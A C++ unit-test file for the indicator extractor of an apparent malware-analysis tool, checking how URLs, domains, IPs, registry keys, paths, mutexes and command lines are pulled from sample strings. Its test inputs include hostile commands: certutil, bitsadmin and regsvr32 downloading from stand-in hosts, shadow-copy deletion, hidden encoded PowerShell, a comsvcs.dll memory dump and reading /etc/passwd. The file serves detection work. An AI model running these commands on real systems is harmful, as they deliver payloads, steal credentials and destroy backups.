#include "kensa/indicators/indicator_extractor.h"

#include <catch2/catch.hpp>

#include <algorithm>
#include <string>
#include <utility>
#include <vector>

#include "kensa/core/file.h"
#include "kensa/indicators/defang.h"
#include "kensa/strings/string_extractor.h"

namespace kensa::indicators {
namespace {

using analysis::v1::Indicator;
using analysis::v1::IndicatorType;
using strings::Encoding;
using strings::ExtractedString;

constexpr IndicatorType kUrl = analysis::v1::INDICATOR_TYPE_URL;
constexpr IndicatorType kDomain = analysis::v1::INDICATOR_TYPE_DOMAIN;
constexpr IndicatorType kIpv4 = analysis::v1::INDICATOR_TYPE_IPV4;
constexpr IndicatorType kIpv6 = analysis::v1::INDICATOR_TYPE_IPV6;
constexpr IndicatorType kEmail = analysis::v1::INDICATOR_TYPE_EMAIL;
constexpr IndicatorType kRegistry = analysis::v1::INDICATOR_TYPE_REGISTRY_KEY;
constexpr IndicatorType kPath = analysis::v1::INDICATOR_TYPE_FILE_PATH;
constexpr IndicatorType kMutex = analysis::v1::INDICATOR_TYPE_MUTEX;
constexpr IndicatorType kUserAgent = analysis::v1::INDICATOR_TYPE_USER_AGENT;
constexpr IndicatorType kCommand = analysis::v1::INDICATOR_TYPE_COMMAND_LINE;

const PublicSuffixList& DebianList() {
  static const Result<PublicSuffixList> list = PublicSuffixList::Load(kDefaultPublicSuffixListPath);
  REQUIRE(list.has_value());
  return *list;
}

using Found = std::vector<std::pair<IndicatorType, std::string>>;

// (type, value) of everything found in `text`, in the extractor's order (by type, then by
// position in the text).
Found Extract(std::string_view text) {
  IndicatorExtractor extractor(DebianList());
  extractor.AddString(ExtractedString{std::string(text), 0, Encoding::kAscii});
  Found found;
  for (const Indicator& i : extractor.Indicators()) found.emplace_back(i.type(), i.value());
  return found;
}

// Values of one type found in `text`.
std::vector<std::string> Values(std::string_view text, IndicatorType type) {
  std::vector<std::string> values;
  for (const auto& [t, v] : Extract(text)) {
    if (t == type) values.push_back(v);
  }
  return values;
}

using Strings = std::vector<std::string>;

TEST_CASE("URLs come out with their host as a domain or address") {
  CHECK(Extract("Download http://evil.example.com/payload.exe?x=1&y=2 now.") ==
        Found{{kUrl, "http://evil.example.com/payload.exe?x=1&y=2"},
              {kDomain, "evil.example.com"}});
  CHECK(Extract("GET https://198.51.100.7:8443/gate.php") ==
        Found{{kUrl, "https://198.51.100.7:8443/gate.php"}, {kIpv4, "198.51.100.7"}});
  CHECK(Extract("see ftp://user:pw@files.example.org/x") ==
        Found{{kUrl, "ftp://user:pw@files.example.org/x"}, {kDomain, "files.example.org"}});
  CHECK(Extract("http://[2001:DB8::1]:443/a") ==
        Found{{kUrl, "http://[2001:db8::1]:443/a"}, {kIpv6, "2001:db8::1"}});
}

TEST_CASE("URL schemes and hosts are normalized, paths kept as written") {
  CHECK(Values("HTTPS://WWW.Example.CO.JP/Path/File.PHP", kUrl) ==
        Strings{"https://www.example.co.jp/Path/File.PHP"});
  CHECK(Values("\x01http://glued.example.net/x", kUrl) == Strings{"http://glued.example.net/x"});
  CHECK(Values("url=https://example.com", kUrl) == Strings{"https://example.com"});
}

TEST_CASE("Defanged URLs are re-fanged") {
  CHECK(Extract("hxxps[:]//bad[.]example[.]co[.]jp/gate.php") ==
        Found{{kUrl, "https://bad.example.co.jp/gate.php"}, {kDomain, "bad.example.co.jp"}});
  CHECK(Values("hXXp://1.2.3[.]4:8080/x", kUrl) == Strings{"http://1.2.3.4:8080/x"});
  CHECK(Values("fxp://drop(.)example(.)org/a", kUrl) == Strings{"ftp://drop.example.org/a"});
  CHECK(Values("hxxp[://]c2{.}example[dot]com/", kUrl) == Strings{"http://c2.example.com/"});
}

TEST_CASE("Trailing punctuation and unbalanced brackets are not part of a URL") {
  CHECK(Values("(see http://example.org/path).", kUrl) == Strings{"http://example.org/path"});
  CHECK(Values("http://example.org/wiki/Foo_(bar), next", kUrl) ==
        Strings{"http://example.org/wiki/Foo_(bar)"});
  CHECK(Values("\"http://example.org/a\"", kUrl) == Strings{"http://example.org/a"});
  CHECK(Values("http://example.jp/はこちら", kUrl) == Strings{"http://example.jp/"});
}

TEST_CASE("URL lists glued by '@' or ',' give one URL each") {
  // The shape of an Emotet dropper's download list.
  CHECK(Values("http://a.example.com/nh@http://b.example.jp/dobgx@https://c.example.net//x,"
               "http://198.51.100.9/y",
               kUrl) == Strings{"http://a.example.com/nh", "http://b.example.jp/dobgx",
                                "https://c.example.net//x", "http://198.51.100.9/y"});
}

TEST_CASE("URLs whose host is no domain or address are not URLs") {
  CHECK(Values("http://kernel32.dll/x http://localhost/y http://%s/z ldap://example.com", kUrl)
            .empty());
  // Not a scheme we report, but its host is still a domain.
  CHECK(Values("ldap://example.com", kDomain) == Strings{"example.com"});
}

TEST_CASE("Domains need a known TLD and must not look like files or code") {
  CHECK(Values("connect to update.evil.co.jp and c2.example.net:443", kDomain) ==
        Strings{"update.evil.co.jp", "c2.example.net"});
  CHECK(Values("WWW.EXAMPLE.COM Example.org", kDomain) == Strings{"www.example.com", "example.org"});
  CHECK(Values("kernel32.dll msvcrt.dll setup.exe a.b readme.md script.py archive.zip "
               "ntdll.pl main.cc lib.rs libc.so",
               kDomain)
            .empty());
  CHECK(Values("System.Net System.IO WScript.Shell Application.Run ADODB.Stream", kDomain).empty());
  CHECK(Values("this.name e.data window.top obj.link x.red tt.tt", kDomain).empty());
  CHECK(Values("size.cx=%ld ret.zw = x a.com[0] obj.style(", kDomain).empty());
  CHECK(Values(".rdata$.refptr.free %s[0].xyz", kDomain).empty());
  CHECK(Values("C:\\Windows\\evil.com\\x /tmp/evil.com", kDomain).empty());
  CHECK(Values("jquery.min.map s.dll.so co.jp", kDomain).empty());
}

TEST_CASE("Risky TLDs are domains with three labels or a digit, or in a URL") {
  CHECK(Values("files.example.zip", kDomain) == Strings{"files.example.zip"});
  CHECK(Values("evil-c2.top abc123.top", kDomain) == Strings{"evil-c2.top", "abc123.top"});
  CHECK(Values("http://archive.zip/x", kDomain) == Strings{"archive.zip"});
  CHECK(Values("readme.md:8080", kDomain) == Strings{"readme.md"});
}

TEST_CASE("A format directive in front of a domain is not part of it") {
  CHECK(Values("%s.evil.example.com", kDomain) == Strings{"evil.example.com"});
}

TEST_CASE("IPv4 addresses are strict dotted quads that can be destinations") {
  CHECK(Values("beacon 185.220.101.42:443 and 192.168.1.10", kIpv4) ==
        Strings{"185.220.101.42", "192.168.1.10"});
  CHECK(Values("127.0.0.1 0.0.0.0 255.255.255.0 255.255.255.255 224.0.0.251 10.0.0.0", kIpv4)
            .empty());
  CHECK(Values("192.168.001.1 999.1.1.1 1.2.3 1.2.3.4.5", kIpv4).empty());
  CHECK(Values("v1.2.3.4 6.1.7601.17514 Version 1.0.0.1 version=\"6.3.2.1\" build: 10.1.2.3",
               kIpv4)
            .empty());
  CHECK(Values("2.5.4.3 2.5.29.19", kIpv4).empty());  // X.509 OIDs
  CHECK(Values("8.8.8.8", kIpv4) == Strings{"8.8.8.8"});
}

TEST_CASE("IPv6 addresses come out in RFC 5952 form") {
  CHECK(Values("2001:0DB8:0000:0000:0000:ff00:0042:8329", kIpv6) ==
        Strings{"2001:db8::ff00:42:8329"});
  CHECK(Values("peer fe80::1ff:fe23:4567:890a%eth0", kIpv6) == Strings{"fe80::1ff:fe23:4567:890a"});
  CHECK(Values("::ffff:203.0.113.9", kIpv6) == Strings{"::ffff:203.0.113.9"});
  CHECK(Values("2001:db8:0:0:1:0:0:1", kIpv6) == Strings{"2001:db8::1:0:0:1"});
  CHECK(Values(":: ::1 ff02::1 12:30:45 de:ad:be:ef:00:11:22:33 std::string Base::Add a::b", kIpv6)
            .empty());
  CHECK(Values("::cbc abc::", kIpv6).empty());
}

TEST_CASE("E-mail addresses are lower-cased and their domain reported") {
  CHECK(Extract("contact admin@evil.co.jp") ==
        Found{{kDomain, "evil.co.jp"}, {kEmail, "admin@evil.co.jp"}});
  CHECK(Values("BOB.Smith@Example.COM, user[at]mail[.]example[.]org, a+b[@]x.example.net",
               kEmail) == Strings{"bob.smith@example.com", "user@mail.example.org",
                                  "a+b@x.example.net"});
  CHECK(Values("%s@%s.com ??0exception@std@@QEAA@XZ user@localhost pkg@1.2.3", kEmail).empty());
}

TEST_CASE("Registry keys get the long hive name and keep their case") {
  CHECK(Values("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", kRegistry) ==
        Strings{"HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"});
  CHECK(Values("reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /v "
               "DelegateExecute /f",
               kRegistry) ==
        Strings{"HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command"});
  CHECK(Values("New-Item HKLM:\\SYSTEM\\CurrentControlSet\\Services\\evil -Force", kRegistry) ==
        Strings{"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil"});
  CHECK(Values("\\Registry\\Machine\\Software\\Evil", kRegistry) ==
        Strings{"HKEY_LOCAL_MACHINE\\Software\\Evil"});
  CHECK(Values("\\REGISTRY\\USER\\S-1-5-21\\Software", kRegistry) ==
        Strings{"HKEY_USERS\\S-1-5-21\\Software"});
  CHECK(Values("\"HKEY_CURRENT_USER\\\\Software\\\\Foo\"", kRegistry) ==
        Strings{"HKEY_CURRENT_USER\\Software\\Foo"});
  CHECK(Values("hkcr\\exefile\\shell\\open\\command", kRegistry) ==
        Strings{"HKEY_CLASSES_ROOT\\exefile\\shell\\open\\command"});
  CHECK(Values("reg copy HKLM\\Software\\A HKCU\\Software\\B", kRegistry) ==
        Strings{"HKEY_LOCAL_MACHINE\\Software\\A", "HKEY_CURRENT_USER\\Software\\B"});
}

TEST_CASE("Registry keys without a hive need a known root and three parts") {
  CHECK(Values("Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce", kRegistry) ==
        Strings{"Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce"});
  CHECK(Values("SYSTEM\\CurrentControlSet\\Services\\Tcpip", kRegistry) ==
        Strings{"SYSTEM\\CurrentControlSet\\Services\\Tcpip"});
  CHECK(Values("Software\\Foo HKLM C:\\Program Files\\Software\\a\\x.exe", kRegistry).empty());
}

TEST_CASE("Windows file paths from drives, variables and shares") {
  CHECK(Values("C:\\Users\\Public\\svchost.exe", kPath) == Strings{"C:\\Users\\Public\\svchost.exe"});
  CHECK(Values("copy to %APPDATA%\\Microsoft\\update.exe", kPath) ==
        Strings{"%APPDATA%\\Microsoft\\update.exe"});
  CHECK(Values("\\\\10.0.0.5\\share\\drop.exe", kPath) == Strings{"\\\\10.0.0.5\\share\\drop.exe"});
  CHECK(Values("open \\\\.\\PhysicalDrive0", kPath) == Strings{"\\\\.\\PhysicalDrive0"});
  CHECK(Values("C:/ProgramData/x/y.dll", kPath) == Strings{"C:/ProgramData/x/y.dll"});
  CHECK(Values("\"C:\\\\Windows\\\\Temp\\\\a.ps1\"", kPath) == Strings{"C:\\Windows\\Temp\\a.ps1"});
}

TEST_CASE("A Windows path ends at a switch or at the file name before other words") {
  CHECK(Values("C:\\Windows\\System32\\cmd.exe /c whoami", kPath) ==
        Strings{"C:\\Windows\\System32\\cmd.exe"});
  CHECK(Values("\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" about:blank", kPath) ==
        Strings{"C:\\Program Files\\Internet Explorer\\iexplore.exe"});
  CHECK(Values("C:\\Program Files\\Internet Explorer\\iexplore.exe http", kPath) ==
        Strings{"C:\\Program Files\\Internet Explorer\\iexplore.exe"});
  CHECK(Values("C:\\Users\\Public\\my notes.txt", kPath) == Strings{"C:\\Users\\Public\\my notes.txt"});
  CHECK(Values("C:\\a.txt;C:\\b.txt", kPath) == Strings{"C:\\a.txt", "C:\\b.txt"});
  // A VBA project reference: path, '#', description.
  CHECK(Values("#C:\\Windows\\system32\\FM20.DLL#Microsoft Forms 2.0", kPath) ==
        Strings{"C:\\Windows\\system32\\FM20.DLL"});
  CHECK(Values("C:\\Windows\\notepad.exe C:\\Temp\\x.txt", kPath) ==
        Strings{"C:\\Windows\\notepad.exe", "C:\\Temp\\x.txt"});
  CHECK(Values("C:\\Program Files\\Common Files\\x.dll is loaded", kPath) ==
        Strings{"C:\\Program Files\\Common Files\\x.dll"});
  // The closing quote of a quoted command line is not part of its last path.
  CHECK(Values("-Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'", kPath) ==
        Strings{"C:\\Users\\Public\\u.ps1"});
  CHECK(Values("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", kPath) ==
        Strings{"C:\\windows\\system32\\comsvcs.dll", "C:\\t\\l.dmp"});
}

TEST_CASE("Windows path noise is not a path") {
  CHECK(Values("C:\\ C:\\foo %s\\%s %MODULE%\\x %1\\x.exe \\\\..\\x http://x.example.com/C:\\a",
               kPath)
            .empty());
}

TEST_CASE("Unix paths under well-known roots") {
  CHECK(Values("chmod +x /tmp/.x/kworker; cat /etc/passwd > /dev/shm/p.txt", kPath) ==
        Strings{"/tmp/.x/kworker", "/etc/passwd", "/dev/shm/p.txt"});
  CHECK(Values("/usr /tmp/ a/tmp/b http://example.com/tmp/x ~/bin/x /opt/x", kPath).empty());
}

TEST_CASE("Mutex names with a namespace prefix") {
  CHECK(Values("Global\\MsWinZonesCacheCounterMutexA", kMutex) ==
        Strings{"Global\\MsWinZonesCacheCounterMutexA"});
  CHECK(Values("local\\{8F6F0AC4-B9A1-45fd-A8CF-72F04E6BDE8F}", kMutex) ==
        Strings{"Local\\{8F6F0AC4-B9A1-45fd-A8CF-72F04E6BDE8F}"});
  CHECK(Values("Sessions\\1\\BaseNamedObjects\\evilmutex", kMutex) ==
        Strings{"Sessions\\1\\BaseNamedObjects\\evilmutex"});
  CHECK(Values("\\BaseNamedObjects\\xyz_123", kMutex) == Strings{"\\BaseNamedObjects\\xyz_123"});
  CHECK(Values("Session\\2\\Mtx", kMutex) == Strings{"Session\\2\\Mtx"});
  CHECK(Values("\"Global\\\\m1\"", kMutex) == Strings{"Global\\m1"});
  CHECK(Values("C:\\Users\\a\\AppData\\Local\\Temp\\x.tmp Global\\ Local\\a\\b", kMutex).empty());
  CHECK(Values("Local\\Te", kMutex).empty());  // "AppData\Local\Temp" cut short
  CHECK(Values("Local\\Temp", kMutex).empty());
}

TEST_CASE("User agents") {
  CHECK(Values("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", kUserAgent) ==
        Strings{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"});
  CHECK(Values("User-Agent: curl/7.68.0", kUserAgent) == Strings{"curl/7.68.0"});
  CHECK(Values("-UserAgent 'MyBot/1.2 (compatible; Win32)' -Uri x", kUserAgent) ==
        Strings{"MyBot/1.2 (compatible; Win32)"});
  CHECK(Values("text/html HTTP/1.1 (200) Mozilla/ 1/2 (x)", kUserAgent).empty());
}

TEST_CASE("Command lines of the programs malware runs") {
  CHECK(Values("cmd.exe /c del /q %TEMP%\\x.bat", kCommand) ==
        Strings{"cmd.exe /c del /q %TEMP%\\x.bat"});
  CHECK(Values("powershell -nop -w hidden -enc SQBFAFgA", kCommand) ==
        Strings{"powershell -nop -w hidden -enc SQBFAFgA"});
  CHECK(Values("C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL x.cpl", kCommand) ==
        Strings{"C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL x.cpl"});
  CHECK(Values("run \"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -c calc", kCommand) ==
        Strings{"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -c calc"});
  CHECK(Values("mshta vbscript:Execute(\"x\")", kCommand) == Strings{"mshta vbscript:Execute(\"x\")"});
  CHECK(Values("certutil -urlcache -split -f http://x.example.com/a.exe a.exe", kCommand) ==
        Strings{"certutil -urlcache -split -f http://x.example.com/a.exe a.exe"});
  CHECK(Values("bitsadmin /transfer j http://x.example.com/a a", kCommand) ==
        Strings{"bitsadmin /transfer j http://x.example.com/a a"});
  CHECK(Values("wmic shadowcopy delete", kCommand) == Strings{"wmic shadowcopy delete"});
  CHECK(Values("SCHTASKS /Create /TN x /TR c:\\x.exe /SC ONLOGON", kCommand) ==
        Strings{"SCHTASKS /Create /TN x /TR c:\\x.exe /SC ONLOGON"});
  CHECK(Values("vssadmin delete shadows /all /quiet", kCommand) ==
        Strings{"vssadmin delete shadows /all /quiet"});
  CHECK(Values("regsvr32 /s /n /u /i:http://x.example.com/a.sct scrobj.dll", kCommand) ==
        Strings{"regsvr32 /s /n /u /i:http://x.example.com/a.sct scrobj.dll"});
  CHECK(Values("%COMSPEC% /C start x.exe", kCommand) == Strings{"%COMSPEC% /C start x.exe"});
}

TEST_CASE("Program names without command-line arguments are not command lines") {
  CHECK(Values("cmd.exe", kCommand).empty());
  CHECK(Values("powershell.exe", kCommand).empty());
  CHECK(Values("schtasks /query", kCommand).empty());
  CHECK(Values("certutil.dll loaded", kCommand).empty());
  CHECK(Values("mshta.exe is a stub!", kCommand).empty());
  CHECK(Values("regsvr32 [/u] [/s] [/n] DllName", kCommand).empty());
  CHECK(Values("wmic is a tool", kCommand).empty());
  CHECK(Values("a cmd /? help; mycmd /c x", kCommand).empty());
}

TEST_CASE("One command line per string, cut at max_value_length on a character boundary") {
  CHECK(Values("cmd /c powershell -enc AAAA", kCommand) == Strings{"cmd /c powershell -enc AAAA"});
  IndicatorLimits limits;
  limits.max_value_length = 16;
  IndicatorExtractor extractor(DebianList(), limits);
  extractor.AddText("cmd /c echo あいうえお", "test", 0);  // "あ" starts at byte 12
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 1);
  CHECK(found[0].value() == "cmd /c echo あ");
}

TEST_CASE("Values are deduplicated with the first offset, its source, and a count") {
  IndicatorExtractor extractor(DebianList());
  extractor.AddString(ExtractedString{"GET http://c2.example.com/a", 0x500, Encoding::kAscii});
  extractor.AddString(ExtractedString{"c2.example.com", 0x100, Encoding::kUtf16Le});
  extractor.AddText("fallback c2.example.com", "pe.version_info", 0x900);
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 2);
  CHECK(found[0].type() == kUrl);
  CHECK(found[0].value() == "http://c2.example.com/a");
  CHECK(found[0].offset() == 0x504);
  CHECK(found[0].source() == "strings.ascii");
  CHECK(found[0].occurrences() == 1);
  CHECK(found[1].type() == kDomain);
  CHECK(found[1].value() == "c2.example.com");
  CHECK(found[1].offset() == 0x100);
  CHECK(found[1].source() == "strings.utf16le");
  CHECK(found[1].occurrences() == 3);
}

TEST_CASE("Offsets are exact file offsets for each encoding") {
  IndicatorExtractor extractor(DebianList());
  // ASCII: byte index. UTF-16LE: two bytes per character. Shift_JIS: two per kana.
  extractor.AddString(ExtractedString{"xx 198.51.100.1", 0x10, Encoding::kAscii});
  extractor.AddString(ExtractedString{"接続 198.51.100.2", 0x100, Encoding::kUtf16Le});
  extractor.AddString(ExtractedString{"ファイル 198.51.100.3", 0x200, Encoding::kShiftJis});
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 3);
  CHECK(found[0].offset() == 0x10 + 3);
  CHECK(found[0].source() == "strings.ascii");
  CHECK(found[1].offset() == 0x100 + 2 * 3);
  CHECK(found[1].source() == "strings.utf16le");
  CHECK(found[2].offset() == 0x200 + 4 * 2 + 1);
  CHECK(found[2].source() == "strings.shift_jis");
}

TEST_CASE("Indicators are ordered by type, then offset, then value") {
  IndicatorExtractor extractor(DebianList());
  extractor.AddText("b.example.com a.example.com", "t", 5);
  extractor.AddText("HKCU\\Software\\x\\y", "t", 1);
  extractor.AddText("http://z.example.org/", "t", 9);
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 5);
  CHECK(found[0].value() == "http://z.example.org/");
  CHECK(found[1].value() == "a.example.com");
  CHECK(found[2].value() == "b.example.com");
  CHECK(found[3].value() == "z.example.org");
  CHECK(found[4].value() == "HKEY_CURRENT_USER\\Software\\x\\y");
}

TEST_CASE("Limits bound the number of values per type and overall") {
  IndicatorLimits limits;
  limits.max_per_type = 2;
  limits.max_indicators = 3;
  IndicatorExtractor extractor(DebianList(), limits);
  extractor.AddText("a.example.com b.example.com c.example.com a.example.com", "t", 0);
  extractor.AddText("1.1.1.1 8.8.8.8", "t", 0);
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 3);
  CHECK(found[0].value() == "a.example.com");
  CHECK(found[0].occurrences() == 2);
  CHECK(found[1].value() == "b.example.com");
  CHECK(found[2].value() == "1.1.1.1");
  CHECK(extractor.dropped() == 2);  // c.example.com and 8.8.8.8
}

TEST_CASE("Values longer than max_value_length are dropped") {
  IndicatorLimits limits;
  limits.max_value_length = 24;
  IndicatorExtractor extractor(DebianList(), limits);
  extractor.AddText("http://example.com/a-rather-long-path", "t", 0);
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 1);
  CHECK(found[0].value() == "example.com");
  CHECK(extractor.dropped() == 1);
}

TEST_CASE("Invalid UTF-8 in text becomes U+FFFD in values") {
  const std::string replacement = "\xEF\xBF\xBD";
  CHECK(Values("C:\\Users\\\xff\xfe.exe", kPath) ==
        Strings{"C:\\Users\\" + replacement + replacement + ".exe"});
  // A surrogate (ED A0 80) and an overlong '/' (C0 AF) are not UTF-8 either.
  CHECK(Values("C:\\Users\\\xED\xA0\x80\xC0\xAF.exe", kPath) ==
        Strings{"C:\\Users\\" + replacement + replacement + replacement + replacement +
                replacement + ".exe"});
  CHECK(Values("C:\\Users\\日本.exe", kPath) == Strings{"C:\\Users\\日本.exe"});
}

TEST_CASE("Every defanged network indicator is extracted back to its value") {
  const std::vector<std::pair<IndicatorType, std::string>> values = {
      {kUrl, "http://evil.example.com/a?b=c"},
      {kUrl, "https://bad.example.co.jp/gate.php"},
      {kUrl, "ftp://files.example.org/x.zip"},
      {kDomain, "evil.example.co.jp"},
      {kIpv4, "203.0.113.5"},
      {kIpv6, "2001:db8::1"},
      {kEmail, "ops@example.co.jp"},
  };
  for (const auto& [type, value] : values) {
    const std::string defanged = Defang(type, value);
    CAPTURE(defanged);
    CHECK(defanged != value);
    CHECK(Values(defanged, type) == Strings{value});
  }
}

TEST_CASE("Indicators come out of real extracted strings in every encoding") {
  // A buffer as a sample would hold it: an ASCII URL, a UTF-16LE Run key, a Shift_JIS lure.
  Bytes data(16, 0);
  const std::string url = "http://c2.example.co.jp/upload.php";
  data.insert(data.end(), url.begin(), url.end());
  data.resize(data.size() + 3, 0);
  const std::string key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  const std::size_t key_offset = data.size();
  for (char c : key) {
    data.push_back(static_cast<std::uint8_t>(c));
    data.push_back(0);
  }
  data.resize(data.size() + 2, 0);
  // "連絡先: support@example.jp までメールしてください" in CP932.
  const std::size_t sjis_offset = data.size();
  const Bytes sjis = {0x98, 0x41, 0x97, 0x8d, 0x90, 0xe6, 0x3a, 0x20, 's',  'u',  'p',  'p',
                      'o',  'r',  't',  '@',  'e',  'x',  'a',  'm',  'p',  'l',  'e',  '.',
                      'j',  'p',  0x20, 0x82, 0xdc, 0x82, 0xc5, 0x83, 0x81, 0x81, 0x5b, 0x83,
                      0x8b, 0x82, 0xb5, 0x82, 0xc4, 0x82, 0xad, 0x82, 0xbe, 0x82, 0xb3, 0x82,
                      0xa2};
  data.insert(data.end(), sjis.begin(), sjis.end());
  data.push_back(0);

  const auto strings = strings::ExtractStrings(data);
  REQUIRE(strings.size() == 3);
  IndicatorExtractor extractor(DebianList());
  extractor.AddStrings(strings);
  const auto found = extractor.Indicators();
  REQUIRE(found.size() == 5);
  CHECK(found[0].value() == url);
  CHECK(found[0].offset() == 16);
  CHECK(found[1].value() == "c2.example.co.jp");
  CHECK(found[2].value() == "example.jp");
  CHECK(found[2].source() == "strings.shift_jis");
  CHECK(found[3].value() == "support@example.jp");
  CHECK(found[3].offset() == sjis_offset + 8);
  CHECK(found[4].value() ==
        "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
  CHECK(found[4].offset() == key_offset);
  CHECK(found[4].source() == "strings.utf16le");

  IndicatorExtractor overlay(DebianList());
  overlay.AddStrings(strings, "overlay");
  CHECK(overlay.Indicators()[4].source() == "overlay.utf16le");
}

TEST_CASE("Wine's wininet.dll gives a short list with no file names as domains") {
  const std::string path = "/usr/lib/x86_64-linux-gnu/wine/x86_64-windows/wininet.dll";
  const auto data = ReadFileBounded(path, 64u << 20);
  REQUIRE(data.has_value());
  IndicatorExtractor extractor(DebianList());
  extractor.AddStrings(strings::ExtractStrings(*data));
  const auto found = extractor.Indicators();
  std::vector<std::string> all;
  for (const auto& i : found) {
    all.push_back(i.value());
    if (i.type() == kDomain) {
      CHECK_FALSE(i.value().ends_with(".dll"));
      CHECK_FALSE(i.value().ends_with(".exe"));
    }
  }
  CAPTURE(all);
  CHECK(std::find(all.begin(), all.end(),
                  "Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings") != all.end());
  CHECK(std::count_if(found.begin(), found.end(), [](const Indicator& i) {
          return i.type() == kDomain || i.type() == kIpv4 || i.type() == kUrl;
        }) == 0);
}

}  // namespace
}  // namespace kensa::indicators
